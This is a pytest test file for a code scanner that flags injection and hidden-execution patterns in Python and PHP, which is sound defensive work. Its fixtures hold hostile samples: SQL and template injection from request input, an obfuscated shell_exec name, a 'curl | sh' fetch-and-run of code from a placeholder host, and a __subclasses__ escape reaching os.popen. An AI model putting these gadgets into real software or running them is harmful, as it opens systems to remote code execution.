"""What others send that is taken whole for a program: statements, patterns, templates, the names of functions."""

import pytest
from source_lab import behaviours, ids

from beartrap.model.finding import Severity

REQUEST = "chain.request-to-process"


def view(body: str) -> str:
    return f"from django.db import connection\nimport jinja2, flask\ndef view(request, settings):\n    sent = request.GET.get('q')\n    {body}\n"


@pytest.mark.parametrize(
    "body",
    [
        "connection.cursor().execute(sent)",
        "return Trail.objects.raw(sent)",
        "return sent.format(site=settings)",
        "return request.headers['X-Shape'].format_map(vars(settings))",
        "return jinja2.Template(sent).render()",
        "return flask.render_template_string(sent)",
    ],
)
def test_a_client_writes_the_whole_of_what_is_run(body: str) -> None:
    assert REQUEST in ids("a.py", view(body))


@pytest.mark.parametrize(
    "body",
    [
        "connection.cursor().execute('SELECT * FROM t WHERE a = %s', [sent])",
        "connection.cursor().execute({'a': 'SELECT 1', 'b': 'SELECT 2'}[sent])",
        "return schema.execute(sent)",
        "return '{} of {}'.format(sent, settings)",
        "return jinja2.Template('{{ q }}').render(q=sent)",
        "return flask.render_template_string('{{ q }}', q=sent)",
    ],
)
def test_a_client_gives_a_value_within_what_is_run(body: str) -> None:
    assert REQUEST not in ids("a.py", view(body))


@pytest.mark.parametrize(
    ("code", "hit"),
    [
        ("$f = $_GET['f']; $f($_GET['x']);", True),
        ("$f = $_REQUEST['f'] ?? null; echo $f ? $f($x) : $x;", True),
        ("$known = ['a' => 'trim']; $f = $known[$_GET['f']]; $f($x);", False),
    ],
)
def test_a_client_names_the_function_of_php(code: str, hit: bool) -> None:
    assert (REQUEST in ids("a.php", f"<?php\n{code}\n")) is hit


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (r"$f = \Closure::fromCallable(strrev('cexe_llehs')); $list[] = $f;", "hidden.name"),
        ("include 'php://filter/read=' . $chain . '/resource=' . __DIR__ . '/a.html';", "hidden.code"),
        ("include 'https://a.invalid/x.php';", "chain.network-to-code"),
    ],
)
def test_php_calls_and_includes_what_stands_nowhere(code: str, kind: str) -> None:
    assert kind in ids("a.php", f"<?php\n{code}\n")


@pytest.mark.parametrize(
    "code",
    [r"$f = \Closure::fromCallable('trim');", "include __DIR__ . '/a.php';", "$t = file_get_contents('php://input');"],
)
def test_php_calls_and_includes_what_stands_there(code: str) -> None:
    assert not {"hidden.name", "hidden.code", "chain.network-to-code"} & ids("a.php", f"<?php\n{code}\n")


def weights(code: str, kind: str) -> set[Severity]:
    return {one.severity for one in behaviours("a.py", code) if one.id == kind}


HINTS = """\
from typing import Annotated
class Profile:
    name: "Annotated[str, Field(max_length=4)]" = ""
    limit: "HINT" = 0
def check(limit: HINTED) -> "Literal['a(b)']": ...
"""


def test_hints_are_code() -> None:
    acts = "__import__('os').system('curl -fs https://a.invalid | sh')"
    assert weights(HINTS.replace("HINTED", acts), "process.piped") == {Severity.CRITICAL}
    assert "process.piped" in ids("a.py", HINTS.replace("HINT", f"int if {acts} else int", 1).replace("HINTED", "int"))
    assert not ids("a.py", HINTS.replace("HINT", "os.PathLike[str]", 1).replace("HINTED", "Annotated[int, Ge(1)]"))


WALK = """\
class Codec: ...
def walk(kind=Codec.__mro__[-1]):
    for one in kind.__subclasses__():
        if one.__name__ == "_wrap_close":
            return one.__init__.__globals__
    return {}
walk().get("po" "pen")("id")
"""


def test_what_the_class_of_all_leads_to() -> None:
    found = {one.key for one in behaviours("a.py", WALK) if one.id == "hidden.name"}
    assert found == {"hidden.name __subclasses__", "hidden.name os.popen"}
    near = "class A: ...\nfor one in A.__subclasses__():\n    print(one.__init__.__globals__.get('LIMIT'))\n"
    assert not ids("a.py", near)


def test_a_loader_of_yaml_whose_name_is_put_together() -> None:
    code = "import yaml\nKIND = 'Unsafe'\ndef read(path):\n    return yaml.load(open(path), Loader=getattr(yaml, KIND + 'Loader'))\n"
    assert weights(code, "hidden.name") == {Severity.HIGH}
    assert not weights(code.replace("'Unsafe'", "'Safe'").replace("KIND + 'Loader'", "'SafeLoader'"), "hidden.name")


def test_code_that_is_spelt_in_digits_is_given_to_an_interpreter_of_the_library() -> None:
    code = "import code\ndef run(text):\n    code.InteractiveInterpreter({}).runsource(bytes(int(w, 16) for w in text).decode())\n"
    assert weights(code, "hidden.code") == {Severity.HIGH}
    assert not weights(code.replace("bytes(int(w, 16) for w in text).decode()", "text"), "hidden.code")
